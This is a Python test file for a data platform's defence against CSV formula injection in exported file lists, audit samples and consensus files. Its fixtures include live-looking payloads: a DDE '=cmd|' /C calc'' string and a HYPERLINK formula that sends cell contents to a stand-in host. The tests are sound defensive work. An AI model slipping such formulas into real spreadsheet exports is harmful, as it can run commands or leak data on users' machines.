"""Spreadsheet-safe CSV (OWASP "CSV injection"): hostile file names in the cleaned file lists, hostile case ids
and model outputs in the audit sample, the disagreements and the consensus come out quoted in the CSV, exact in
the .parquet twin, and exact when the platform reads its own CSV back; a quarantined row stays verbatim."""

import csv
import json

import polars as pl
import pytest
from PIL import Image

from noisycal_platform.cleaning.images import read_image_dataset
from noisycal_platform.cleaning.pipeline.confirmation import cleaned_file_lists, write_cleaned_file_lists
from noisycal_platform.cleaning.pipeline.schemas import CONFIRMED_SCHEMA
from noisycal_platform.correctness import audit_workflow as aw
from noisycal_platform.correctness import pipeline as cp
from noisycal_platform.correctness.demo_data import write_demo_correctness_inputs
from noisycal_platform.files import sha256_file
from noisycal_platform.ingest import accepted_annotations, ingest_annotation_batches
from noisycal_platform.spreadsheet import exact_twin, parquet_twin, safe_cell, unsafe_cell
from orchestration.cli import main

KEY = ["dataset", "model", "case_id"]

HOSTILE = {  # value -> what a spreadsheet must see (written by hand from the OWASP rule)
    "=cmd|' /C calc'!A0.png": "'=cmd|' /C calc'!A0.png",
    "+1.png": "'+1.png",  # not a number
    "@SUM(1).png": "'@SUM(1).png",
    "=cmd5.png": "'=cmd5.png",
    "+x": "'+x",
    "-x.png": "'-x.png",
    "@SUM(A1)": "'@SUM(A1)",
    "\tlead.png": "'\tlead.png",
    "\rcr.png": "'\rcr.png",
    "-1.5": "-1.5",  # a number stays
    "+3": "+3",
    "1e5": "1e5",
    "plain.png": "plain.png",
    "a=b.png": "a=b.png",  # only the first character counts
    "'=already": "''=already",  # one more quote, so reading back is exact
    "'plain": "'plain",
    "": "",
}


@pytest.mark.parametrize("value,shown", HOSTILE.items())
def test_safe_cell_and_inverse(value, shown):
    assert safe_cell(value) == shown
    assert unsafe_cell(safe_cell(value)) == value
    assert safe_cell(3) == 3 and safe_cell(None) is None


def test_cleaned_lists_hostile_names(tmp_path):
    names = [n for n in HOSTILE if n]
    rules = ("unanimous", "majority")
    lists = pl.DataFrame(
        {"file_name": names * len(rules), "rule": [r for r in rules for _ in names]}
    )
    write_cleaned_file_lists(tmp_path, "ds", lists)
    for rule in rules:
        path = tmp_path / f"ds_{rule}.csv"
        with path.open(newline="", encoding="utf-8") as fh:
            cells = [row[0] for row in csv.reader(fh)]
        assert cells == ["file_name", *[HOSTILE[n] for n in names]]
        twin = pl.read_parquet(parquet_twin(path))
        assert twin.columns == ["file_name"] and twin["file_name"].to_list() == names


def test_hostile_model_output_in_audit_sample(tmp_path):
    home = tmp_path / "home"
    write_demo_correctness_inputs(home, seed=0, n_per_group=100)
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    for f in sorted((home / "correctness" / "generations").glob("*.jsonl")):
        rows = [json.loads(line) for line in f.read_text(encoding="utf-8").splitlines() if line.strip()]
        for r in rows[::2]:  # half the model's answers lead with a formula (EM-rejected from now on)
            r["raw_output"] = json.dumps({"reasoning": "r", "answer": hostile})
        f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert main(["--home", str(home), "audit", "sample", "--per-stratum", "5", "--seed", "0"]) == 0
    path = home / "exports" / "audit_sample.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        shown = [r["answer"] for r in csv.DictReader(fh)]
    twin = pl.read_parquet(parquet_twin(path))
    exact = twin["answer"].to_list()
    assert exact.count(hostile) > 0  # the hostile answer reached the sample
    assert [("'" + hostile if e == hostile else e) for e in exact] == [s or None for s in shown]
    back = aw.read_audit_sample(path)  # what the confirmation tool shows: the exact model output
    assert back["raw_output"].to_list() == twin.sort("position")["raw_output"].to_list()
    assert back["position"].to_list() == twin.sort("position")["position"].to_list()


# ------------------------------------------------------------------ cleaned lists of a dataset on disk

FILE_NAMES = {  # an image file on disk -> its cell in the cleaned list (by hand, OWASP)
    "=cmd|' /C calc'!A0.png": "'=cmd|' /C calc'!A0.png",
    "+1.png": "'+1.png",
    "-x.png": "'-x.png",
    "@SUM(1).png": "'@SUM(1).png",
    "\ttab.png": "'\ttab.png",
    "\rcr.png": "'\rcr.png",
    "plain.png": "plain.png",
}


def test_cleaned_lists_of_a_dataset_with_hostile_file_names(tmp_path):
    root = tmp_path / "ds"
    root.mkdir()
    for k, name in enumerate(FILE_NAMES):
        (root / name).parent.mkdir(exist_ok=True)  # the "/" of " /C calc" makes it a folder "=cmd|' "
        Image.new("RGB", (4, 4), (30 * k, 0, 0)).save(root / name, format="PNG")
    with (root / "labels.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)  # CRLF line ends: a name with a CR is quoted
        w.writerow(["file_name", "label"])
        w.writerows([n, "a"] for n in FILE_NAMES)
    ds = read_image_dataset(root)
    assert sorted(ds.frame["file_name"].to_list()) == sorted(FILE_NAMES)  # every hostile name is an image
    confirmed = pl.DataFrame(  # "-x.png" confirmed irrelevant under both rules: removed from both lists
        [{"dataset": "ds", "issue_type": "irrelevant", "item_id": "-x.png", "unanimous": True, "majority": True}],
        schema=CONFIRMED_SCHEMA,
    )
    out = tmp_path / "exports"
    out.mkdir()
    kept = write_cleaned_file_lists(out, "ds", cleaned_file_lists(ds.table("ds"), confirmed))
    expected = sorted(n for n in FILE_NAMES if n != "-x.png")
    for rule, n_kept in kept.items():
        path = out / f"ds_{rule}.csv"
        with path.open(newline="", encoding="utf-8") as fh:
            cells = [row[0] for row in csv.reader(fh)]
        assert n_kept == len(expected) and cells == ["file_name", *[FILE_NAMES[n] for n in expected]]
        twin = pl.read_parquet(parquet_twin(path))
        assert twin["file_name"].to_list() == expected  # the exact names
        assert all((root / n).is_file() for n in twin["file_name"])  # each opens the file on disk


# ------------------------------------------------------------------ the audit workflow, end to end

HOSTILE_ANSWERS = ("=1+1", "+SUM(A1)", "-cmd", "@SUM(1)")


def _hostile_case_id(i: int) -> tuple[str, bool]:
    """Case i's hostile id, and whether a spreadsheet would run it (a number such as -3.5 is left alone)."""
    return [(f"=cmd|' /C calc'!A{i}", True), (f"+{i}x", True), (f"-x{i}", True), (f"@SUM({i})", True),
            (f"-{i}.5", False)][i % 5]


def _hostile_correctness_home(tmp_path):
    home = tmp_path / "home"
    write_demo_correctness_inputs(home, seed=0, n_per_group=100)
    for f in (home / "correctness" / "audit").glob("*.csv"):
        f.unlink()  # the audit is done through the workflow here: its consensus is the only audit file
    for f in sorted((home / "correctness" / "generations").glob("*.jsonl")):
        rows = [json.loads(line) for line in f.read_text(encoding="utf-8").splitlines() if line.strip()]
        for r in rows:
            i = int(r["case_id"].rsplit("-", 1)[1])
            r["case_id"] = _hostile_case_id(i)[0]
            if i % 3 == 0:  # the LLM's answer leads with a formula; or its whole output does (not JSON)
                a = HOSTILE_ANSWERS[(i // 3) % len(HOSTILE_ANSWERS)]
                r["raw_output"] = a if i % 2 else json.dumps({"reasoning": "r", "answer": a})
        f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return home


def _shown_cells(path):
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _check_cells(path, twin, runs, columns):
    """Each CSV cell of ``columns`` is the twin's exact value with one leading quote exactly where a spreadsheet
    would run it (a hostile answer or output, a hostile case id), and verbatim otherwise."""
    shown = _shown_cells(path)
    assert len(shown) == twin.height
    for col in columns:
        for cell, exact in zip([r[col] for r in shown], twin[col].to_list(), strict=True):
            quoted = exact in HOSTILE_ANSWERS or (col == "case_id" and runs[exact])
            assert cell == ("" if exact is None else "'" + exact if quoted else exact), (col, exact)


def test_hostile_ids_and_model_outputs_through_the_audit_workflow(tmp_path):
    home = _hostile_correctness_home(tmp_path)
    runs = dict(_hostile_case_id(i) for i in range(100))
    gen = cp.raw_generations(home / "correctness" / "generations")
    assert main(["--home", str(home), "audit", "sample", "--per-stratum", "5", "--seed", "0"]) == 0
    paths = aw.AuditPaths(home)
    twin = pl.read_parquet(parquet_twin(paths.sample))
    assert set(twin["answer"]) & set(HOSTILE_ANSWERS) and set(twin["raw_output"]) & set(HOSTILE_ANSWERS)
    _check_cells(paths.sample, twin, runs, ["case_id", "answer", "raw_output"])
    sample = aw.read_audit_sample(paths.sample)  # what the web tool shows and the agreement joins on: exact
    for col in ("case_id", "answer", "raw_output"):
        assert sample[col].to_list() == twin.sort("position")[col].to_list()

    # two annotators by CSV: ann_a types the exact ids, ann_b copies the cells of the sample file as shown
    # (quote included); ann_b judges incorrect every item whose model output leads with a formula
    shown = {tuple(r[k] for k in KEY): r for r in _shown_cells(paths.sample)}
    flip = {
        tuple(r[k] for k in KEY) for r in sample.iter_rows(named=True)
        if r["answer"] in HOSTILE_ANSWERS or r["raw_output"] in HOSTILE_ANSWERS
    }
    paths.annotation_csvs.mkdir(parents=True)
    header = [*KEY, "annotator_id", "human_correct", "error_category"]
    exact_keys = sample.select(KEY).rows()
    with (paths.annotation_csvs / "ann_a.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows([*k, "ann_a", 1, ""] for k in exact_keys)
    with (paths.annotation_csvs / "ann_b.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        for k_shown in shown:
            k = tuple(unsafe_cell(v) for v in k_shown)
            w.writerow([*k_shown, "ann_b", 0 if k in flip else 1, "extra/wrong" if k in flip else ""])
    assert flip
    res = aw.run_audit_agreement(home, gen, n_boot=50)
    overall = res.agreement.filter(pl.col("scope") == "all").row(0, named=True)
    assert overall["n_incomplete"] == 0 and overall["n_items"] == sample.height  # ann_b's quoted ids matched
    assert set(res.disagreements.select(KEY).rows()) == flip
    dis_twin = pl.read_parquet(parquet_twin(paths.disagreements))
    assert dis_twin.equals(res.disagreements)
    _check_cells(paths.disagreements, dis_twin, runs, ["case_id", "answer", "raw_output"])

    # the joint decision: a filled copy of the disagreements file as shown (quotes included)
    paths.adjudications.mkdir(parents=True)
    rows = _shown_cells(paths.disagreements)
    with (paths.adjudications / "joint.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows({**r, "human_correct": "1", "error_category": ""} for r in rows)
    res = aw.run_audit_agreement(home, gen, n_boot=50)
    assert res.consensus.height == sample.height
    assert set(res.consensus.filter(pl.col("decision") == "joint").select(KEY).rows()) == flip

    # consensus.csv: quoted for a person, exact in its twin, and read back by raw/audit_labels unchanged
    consensus = res.consensus.select(aw.CONSENSUS_COLUMNS).sort(KEY)
    c_twin = pl.read_parquet(parquet_twin(paths.consensus))
    assert c_twin.sort(KEY).equals(consensus)
    _check_cells(paths.consensus, c_twin, runs, ["case_id"])
    assert any(not runs[c] for c in c_twin["case_id"]) and any(runs[c] for c in c_twin["case_id"])
    verbatim = tmp_path / "verbatim"  # what the platform read before the quotes: the exact values, unquoted
    verbatim.mkdir()
    with (verbatim / "consensus.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(aw.CONSENSUS_COLUMNS)
        w.writerows([{True: 1, False: 0}.get(v, v) if isinstance(v, bool) else ("" if v is None else v)
                     for v in r] for r in consensus.iter_rows())
    before = cp.raw_audit_labels(verbatim, gen).select(aw.CONSENSUS_COLUMNS).sort(KEY)
    assert before.equals(consensus)
    assert exact_twin(paths.consensus) is not None  # read from the twin
    assert cp.raw_audit_labels(paths.consensus.parent, gen).select(aw.CONSENSUS_COLUMNS).sort(KEY).equals(before)
    with paths.consensus.open("a", encoding="utf-8") as fh:
        fh.write("\n")  # saved again by an editor: the twin no longer belongs to it, the CSV is read
    assert exact_twin(paths.consensus) is None
    assert cp.raw_audit_labels(paths.consensus.parent, gen).select(aw.CONSENSUS_COLUMNS).sort(KEY).equals(before)
    parquet_twin(paths.consensus).unlink()  # a home written before the twins
    assert cp.raw_audit_labels(paths.consensus.parent, gen).select(aw.CONSENSUS_COLUMNS).sort(KEY).equals(before)
    aw.run_audit_agreement(home, gen, n_boot=50)  # the twin comes back
    assert exact_twin(paths.consensus) is not None


def test_audit_sample_read_from_the_csv_when_its_twin_does_not_belong(tmp_path):
    home = _hostile_correctness_home(tmp_path)
    assert main(["--home", str(home), "audit", "sample", "--per-stratum", "5", "--seed", "0"]) == 0
    path = aw.AuditPaths(home).sample
    from_twin = aw.read_audit_sample(path)
    parquet_twin(path).write_bytes(b"not parquet")
    assert exact_twin(path) is None
    assert aw.read_audit_sample(path).equals(from_twin)  # the CSV, its quotes undone: the same values


# ------------------------------------------------------------------ quarantine copies stay verbatim


def test_quarantined_rows_are_the_persons_own_bytes(layout):
    header = "item_id,annotator_id,label\n"
    p = layout.annotation_inbox / "bad.csv"
    p.write_text(header + "=cmd|' /C calc'!A0,r1,1\n@SUM(1),r1,7\n")
    digest = sha256_file(p)
    ingest_annotation_batches(layout)
    rejected = layout.quarantine / f"bad.rejected-{digest[:8]}.csv"
    assert rejected.read_text() == header + "@SUM(1),r1,7\n"  # to fix and resubmit: not quoted
    assert accepted_annotations(layout)["item_id"].to_list() == ["=cmd|' /C calc'!A0"]
